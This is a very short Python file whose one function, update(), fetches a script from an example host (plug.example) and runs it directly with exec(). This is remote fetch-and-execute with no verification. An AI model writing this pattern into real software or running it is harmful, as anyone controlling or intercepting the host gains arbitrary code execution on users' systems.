import requests


def update():
    exec(requests.get("https://plug.example/latest.py", timeout=10).text)
